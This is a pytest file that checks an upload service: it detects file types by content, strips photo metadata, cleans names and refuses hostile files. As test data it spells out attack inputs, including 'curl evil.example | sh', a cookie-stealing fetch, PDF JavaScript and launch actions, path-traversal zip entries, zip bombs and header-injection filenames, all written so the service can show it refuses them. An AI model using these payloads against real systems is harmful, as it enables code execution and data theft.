"""Uploaded files: accepted by content not name, photos lose their location, bytes kept outside static/."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path

import pytest
from PIL import Image
from werkzeug.datastructures import FileStorage

from shared.services import files
from unit_tests import crafted_files as crafted
from unit_tests.crafted_files import PDF, docx, odt, photo_with_everything, zip_of


def upload(name: str, data: bytes) -> FileStorage:
    return FileStorage(stream=io.BytesIO(data), filename=name)


def photo_with_location(fmt: str = "JPEG") -> bytes:
    return photo_with_everything(fmt)


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("letter.pdf", PDF, files.PDF),
        ("letter", PDF, files.PDF),  # no extension: content decides
        ("report.docx", docx(), files.DOCX),
        ("report.odt", odt(), files.ODT),
        ("notes.txt", "Damp in the bedroom since March — still there.\n".encode(), files.TXT),
        ("nodiadau.txt", "\ufeffMae’r bin heb ei gasglu ers mis Mawrth — Café £5.\n".encode(), files.TXT),
        ("photo.jpg", photo_with_location(), files.JPEG),
        ("photo.png", photo_with_location("PNG"), files.PNG),
    ],
)
def test_allowed_files_are_recognised_by_content(app, name, data, content_type):
    with app.app_context():
        checked = files.check(upload(name, data))
    assert checked.content_type == content_type
    assert checked.name == name


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("virus.pdf", b"MZ\x90\x00" + b"\x00" * 64),  # a program named as a PDF
        ("archive.docx", zip_of({"a.txt": "x"})),  # a plain zip named as a document
        ("sheet.docx", zip_of({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"})),
        ("page.txt", b"\x00\x01\x02binary"),
        ("anim.gif", b"GIF89a" + b"\x00" * 20),
    ],
)
def test_other_files_are_refused_naming_the_file_and_what_is_allowed(app, name, data):
    with app.test_request_context(), pytest.raises(files.FileRejected) as refused:
        files.check(upload(name, data))
    message = str(refused.value.message)
    assert name in message
    assert "PDF, JPEG, PNG, DOCX, ODT or TXT" in message


def test_empty_and_oversized_files_are_refused(app):
    with app.test_request_context():
        with pytest.raises(files.FileRejected, match="empty.pdf is empty"):
            files.check(upload("empty.pdf", b""))
        with pytest.raises(files.FileRejected, match="big.pdf must be smaller than 10 MB"):
            files.check(upload("big.pdf", PDF + b"0" * files.MAX_BYTES))


def test_a_broken_image_is_refused(app):
    with app.test_request_context(), pytest.raises(files.FileRejected, match="could not be read as an image"):
        files.check(upload("broken.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 40))


@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_photos_lose_their_location_and_camera_details(app, fmt):
    original = photo_with_location(fmt)
    assert Image.open(io.BytesIO(original)).getexif()  # the test photo really carries EXIF
    with app.app_context():
        checked = files.check(upload("photo", original))
    cleaned = Image.open(io.BytesIO(checked.data))
    assert not cleaned.getexif()
    assert b"PhoneMaker" not in checked.data
    assert cleaned.size == (40, 30)


def test_more_than_ten_files_are_refused_together(app):
    with app.test_request_context():
        accepted, errors = files.check_all([upload(f"{n}.pdf", PDF) for n in range(3)], already=8)
    assert accepted == []
    assert [str(e) for e in errors] == ["You can add up to 10 files"]


def test_check_all_keeps_the_good_files_and_names_each_bad_one(app):
    with app.test_request_context():
        accepted, errors = files.check_all([upload("a.pdf", PDF), upload("b.exe", b"MZ" + b"\x00" * 30), upload("c.txt", b"ok")])
    assert [f.name for f in accepted] == ["a.pdf", "c.txt"]
    assert len(errors) == 1 and "b.exe" in str(errors[0])


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("C:\\Users\\me\\Desktop\\letter.pdf", "letter.pdf"),
        ("../../etc/passwd", "passwd"),
        ("bad\r\nname.pdf", "badname.pdf"),
        ("   ", "file"),
        ("a" * 300 + ".pdf", "a" * 255),
    ],
)
def test_names_are_cleaned_for_display(sent, shown):
    assert files.clean_name(sent) == shown


def test_stored_files_live_outside_static_under_server_chosen_names(app, session, make):
    user = make.user()
    with app.test_request_context():
        [row] = files.store([files.CheckedFile("../../evil.pdf", files.PDF, PDF)], uploaded_by=user)
        directory = files.upload_dir()
        path = directory / row.stored_name
        assert path.read_bytes() == PDF
        assert row.stored_name != "../../evil.pdf" and len(row.stored_name) == 40
        assert Path(app.static_folder).resolve() not in path.resolve().parents
        response = files.download(row)
        response.direct_passthrough = False
        assert response.get_data() == PDF
        assert response.headers["Content-Disposition"].startswith("attachment;")
        assert "evil.pdf" in response.headers["Content-Disposition"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Cache-Control"] == "no-store"
        response.close()
        files.remove(row)
        assert not path.exists()


def test_orphaned_bytes_are_removed(app, session, make):
    with app.test_request_context():
        [kept] = files.store([files.CheckedFile("a.txt", files.TXT, b"kept")], uploaded_by=None)
        orphan = files.upload_dir() / ("0" * 40)
        orphan.write_bytes(b"left behind by a rolled-back request")
        assert files.remove_orphans() >= 1
        assert not orphan.exists()
        assert (files.upload_dir() / kept.stored_name).exists()


def test_a_refused_file_name_is_plain_text_so_templates_escape_it(app):
    from markupsafe import escape

    with app.test_request_context(), pytest.raises(files.FileRejected) as refused:
        files.check(upload("<img src=x onerror=alert(1)>.exe", b"MZ" + b"\x00" * 30))
    assert not hasattr(refused.value.message, "__html__")
    assert "&lt;img src=x onerror=alert(1)&gt;.exe" in str(escape(refused.value.message))


# --- what a file hides: polyglots, active PDFs, archives, bombs (unit_tests/crafted_files.py) -------

HIDDEN = "contains something other than a document or picture"


def refusal(app, name: str, data: bytes) -> str:
    with app.test_request_context(), pytest.raises(files.FileRejected) as refused:
        files.check(upload(name, data))
    return str(refused.value.message)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("page.txt", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
        ("page.pdf", b"<html><body>renamed web page</body></html>"),
        ("letter.txt", b"  <p onclick=alert(1)>Click</p>"),
        ("logo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("notes.txt", b"function steal() { fetch('/x?c=' + document.cookie) }"),
        ("notes.txt", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("notes.txt", b"Dear council,\n" + b"x" * 200 + b"<script src=//evil.example/x.js></script>"),
        ("photo.jpg", crafted.jpeg_with_comment(b"<script>alert(1)</script>")),
        ("photo.jpg", crafted.jpeg_with_comment(b"<html><body>polyglot</body></html>")),
        ("photo.jpg", crafted.with_zip_appended(photo_with_everything())),  # GIFAR: a JAR riding on a picture
        ("photo.png", crafted.with_zip_appended(photo_with_everything("PNG"))),
        ("letter.pdf", crafted.with_zip_appended(PDF)),
        ("letter.pdf", crafted.plain_pdf(padding=b"<svg onload=alert(1)>")),
    ],
)
def test_renamed_web_pages_scripts_and_polyglots_are_refused_whatever_their_name(app, name, data):
    assert f"{name} {HIDDEN}" in refusal(app, name, data)


@pytest.mark.parametrize(
    ("label", "data"),
    [
        ("JavaScript on opening", crafted.pdf_with_catalogue(b"/OpenAction 4 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>")),
        ("a name spelt with #hex escapes", crafted.pdf_with_catalogue(b"/OpenAction << /S /J#61vaScript /JS (x) >>")),
        ("document-level JavaScript", crafted.pdf_with_catalogue(b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>",
                                                                  b"<< /S /JavaScript /JS (x) >>")),
        ("a link that launches a program", crafted.pdf_with_catalogue(
            b"", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>",
            page_extra=b"/Annots [4 0 R]")),
        ("an embedded file", crafted.pdf_with_catalogue(
            b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")),
        ("an action on opening a page", crafted.pdf_with_catalogue(b"", page_extra=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>")),
        ("a form that submits itself", crafted.pdf_with_catalogue(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>")),
    ],
)
def test_pdfs_that_run_script_launch_programs_or_carry_files_are_refused(app, label, data):
    assert f"letter.pdf {HIDDEN}" in refusal(app, "letter.pdf", data), label


@pytest.mark.parametrize(
    "data",
    [
        crafted.pdf_with_catalogue(b"/OpenAction [3 0 R /Fit]"),  # open at page 1: a destination, not an action
        crafted.pdf_with_catalogue(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
        crafted.pdf_with_catalogue(b"", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI "
                                        b"/URI (https://www.example.gov.uk/) >> >>", page_extra=b"/Annots [4 0 R]"),
        crafted.encrypted_pdf(""),  # restricted by an owner password only: opens for anyone, so it can be checked
    ],
)
def test_ordinary_pdfs_with_links_and_an_opening_page_are_accepted(app, data):
    with app.app_context():
        assert files.check(upload("letter.pdf", data)).content_type == files.PDF


def test_a_pdf_that_needs_a_password_or_cannot_be_read_is_refused_saying_why(app):
    assert "letter.pdf is protected with a password" in refusal(app, "letter.pdf", crafted.encrypted_pdf("secret"))
    broken = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"  # no cross-reference table
    assert "old.pdf could not be opened" in refusal(app, "old.pdf", broken)


@pytest.mark.parametrize(
    ("label", "data", "message"),
    [
        ("a Word macro project", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "contains macros"),
        ("a macro-enabled main part", docx(content_types=crafted.CONTENT_TYPES.replace(
            crafted.DOCX_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")), "contains macros"),
        ("LibreOffice Basic", odt({"Basic/Standard/Module1.xml": "<script:module/>"}), "contains macros"),
        ("a zip bomb entry (5 MB of zeros in a few KB)", docx({"word/media/a.xml": b"\0" * (5 * 1024 * 1024)}),
         "is too large to open safely"),
        ("over a thousand entries", docx({f"word/media/{n}.xml": "x" for n in range(1001)}), "is too large to open safely"),
        ("a path out of the folder", docx({"../../home/user/.bashrc": "curl evil.example | sh"}), HIDDEN),
        ("an absolute path", docx({"/etc/cron.d/evil": "* * * * * root sh"}), HIDDEN),
        ("a Windows path", docx({"..\\..\\evil.bat": "del *"}), HIDDEN),
        ("a symbolic link", docx({"word/media/image1.png": "/etc/passwd"}, links={"word/media/image1.png"}), HIDDEN),
        ("a spreadsheet inside", docx({"word/embeddings/Sheet.xlsx": zip_of({"xl/workbook.xml": "<x/>"})}), HIDDEN),
        ("an OLE object inside", docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)}), HIDDEN),
        ("a program inside", odt({"Pictures/setup.png": b"MZ\x90\x00" + bytes(64)}), HIDDEN),
        ("entity declarations", docx(content_types='<!DOCTYPE t [<!ENTITY a "aaaa">]>' + crafted.CONTENT_TYPES), HIDDEN),
        ("encrypted entries", crafted.marked_encrypted(docx()), "is protected with a password"),
        ("no Word main part declared", docx(content_types="<Types/>"), "must be a PDF, JPEG, PNG, DOCX, ODT or TXT file"),
        ("an ODT whose mimetype is compressed", odt(mimetype_stored=False), "must be a PDF, JPEG, PNG, DOCX, ODT or TXT file"),
        ("an ODT without its manifest", zip_of({"mimetype": crafted.ODT_TYPE, "content.xml": "<x/>"}, stored={"mimetype"}),
         "must be a PDF, JPEG, PNG, DOCX, ODT or TXT file"),
        ("a Java archive", zip_of({"META-INF/MANIFEST.MF": "Main-Class: Evil\n", "Evil.class": b"\xca\xfe\xba\xbe"}),
         "must be a PDF, JPEG, PNG, DOCX, ODT or TXT file"),
    ],
)
def test_documents_are_bounded_and_refused_with_macros_path_tricks_or_archives_inside(app, label, data, message):
    assert f"report.docx {message}" in refusal(app, "report.docx", data), label


def test_documents_with_pictures_are_accepted(app):
    picture = photo_with_everything()
    with app.app_context():
        assert files.check(upload("r.docx", docx({"word/media/image1.jpeg": picture}))).content_type == files.DOCX
        assert files.check(upload("r.odt", odt({"Pictures/1.jpg": picture}))).content_type == files.ODT


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("notes.txt", "Café £5".encode("cp1252"), "notes.txt must be a text file saved as UTF-8"),
        ("notes.txt", "Damp".encode("utf-16"), "notes.txt must be a PDF"),  # UTF-16 holds NULs
        ("notes.txt", b"line one\x1b[31m red", "notes.txt must be a PDF"),  # terminal escape codes
        ("photo.jpg", b"\x7fELF\x02\x01\x01" + bytes(60), "photo.jpg must be a PDF"),
        ("photo.jpg", b"MZ\x90\x00" + bytes(64), "photo.jpg must be a PDF"),
        ("notes.txt", crafted.with_zip_appended(b"plain words"), "notes.txt must be a PDF"),
    ],
)
def test_text_must_be_utf8_without_control_characters_and_programs_are_refused(app, name, data, message):
    assert message in refusal(app, name, data)


def test_a_decompression_bomb_image_is_refused_before_it_is_decoded(app):
    from PIL import Image as PILImage

    claimed = crafted.png_claiming(100_000, 100_000)  # 10 billion pixels in 100 bytes
    assert PILImage.MAX_IMAGE_PIXELS < 100_000 * 100_000
    message = refusal(app, "huge.png", claimed)
    assert message.startswith("huge.png is too large to open safely")


@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_stored_photos_keep_no_exif_gps_xmp_icc_profile_or_comment(app, session, make, fmt):
    original = photo_with_everything(fmt)
    before = Image.open(io.BytesIO(original))
    # The test photo really carries each of them.
    assert before.getexif() and before.info.get("icc_profile")
    assert crafted.XMP in original or b"XML:com.adobe.xmp" in original
    assert crafted.COMMENT in original
    with app.test_request_context():
        [row] = files.store([files.check(upload(f"photo.{fmt.lower()}", original))], uploaded_by=make.user())
        stored = (files.upload_dir() / row.stored_name).read_bytes()
    after = Image.open(io.BytesIO(stored))
    assert after.format == fmt and after.size == before.size
    assert not after.getexif()
    for key in ("exif", "icc_profile", "xmp", "XML:com.adobe.xmp", "comment", "Comment"):
        assert key not in after.info, key
    for secret in (crafted.GPS_SECRET.encode(), crafted.COMMENT, b"Redbury", b"xmpmeta", b"sRGB", b"Exif"):
        assert secret not in stored, secret
    assert row.size == len(stored) and row.sha256 == hashlib.sha256(stored).hexdigest()


# --- downloads: RFC 6266 names, no header injection ----------------------------------------------------


@pytest.mark.parametrize(
    ("name", "fallback", "encoded"),
    [
        ("letter.pdf", "letter.pdf", "letter.pdf"),
        ('my "final" letter.pdf', "my _final_ letter.pdf", "my%20%22final%22%20letter.pdf"),
        ("a.pdf; filename=evil.exe", "a.pdf_ filename=evil.exe", "a.pdf%3B%20filename%3Devil.exe"),
        ("a.pdf\r\nSet-Cookie: x=1", "a.pdfSet-Cookie_ x=1", "a.pdfSet-Cookie%3A%20x%3D1"),
        ("Llythyr i’r Cyngor – Łódź.pdf", "Llythyr ir Cyngor  odz.pdf",
         "Llythyr%20i%E2%80%99r%20Cyngor%20%E2%80%93%20%C5%81%C3%B3d%C5%BA.pdf"),
        ("شکایت.pdf", ".pdf", "%D8%B4%DA%A9%D8%A7%DB%8C%D8%AA.pdf"),
        ("back\\slash%41.pdf", "back_slash_41.pdf", "back%5Cslash%2541.pdf"),
    ],
)
def test_download_names_have_an_ascii_fallback_and_the_exact_name_in_utf8(name, fallback, encoded):
    import unicodedata

    from werkzeug.http import parse_options_header

    header = files.content_disposition(name)
    assert header == f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{encoded}"
    assert "\r" not in header and "\n" not in header and header.count(";") == 2
    # A client that prefers filename* (RFC 6266) gets the name exactly, and only one parameter.
    printable = "".join(ch for ch in name if unicodedata.category(ch)[0] != "C")
    assert parse_options_header(header) == ("attachment", {"filename": printable})


def test_every_download_is_an_attachment_under_a_sandboxing_policy(app, session, make):
    with app.test_request_context():
        [row] = files.store([files.CheckedFile('Adroddiad "terfynol"; ffeil.pdf', files.PDF, PDF)],
                            uploaded_by=make.user())
        response = files.download(row)
        response.close()
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=\"Adroddiad _terfynol__ ffeil.pdf\"; "
        "filename*=UTF-8''Adroddiad%20%22terfynol%22%3B%20ffeil.pdf")
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox; frame-ancestors 'none'; base-uri 'none'"
    assert response.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("side", ["portal", "staff"])
def test_both_download_routes_send_exactly_these_headers(app, session, make, side):
    from shared.domain.enums import CaseStatus, Role
    from unit_tests.test_route_access import quick_sign_in

    resident = make.user(Role.RESIDENT)
    officer = make.user(Role.OFFICER)
    case = make.case(resident, make.service(), status=CaseStatus.WITH_TEAM, officer_id=officer.id)
    _message, (file_id,) = make.message(app, case, attachments=(("Llythyr \"olaf\";\r\nX: y.txt", b"Hello"),))
    client = app.test_client()
    quick_sign_in(client, session, officer if side == "staff" else resident)
    prefix = "/staff" if side == "staff" else ""
    response = client.get(f"{prefix}/cases/{case.reference}/files/{file_id}")
    assert response.status_code == 200 and response.data == b"Hello"
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=\"Llythyr _olaf__X_ y.txt\"; filename*=UTF-8''Llythyr%20%22olaf%22%3BX%3A%20y.txt")
    assert response.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox; frame-ancestors 'none'; base-uri 'none'"
    assert response.headers["Cache-Control"] == "no-store"
    assert "X" not in response.headers  # the name's line break added no header
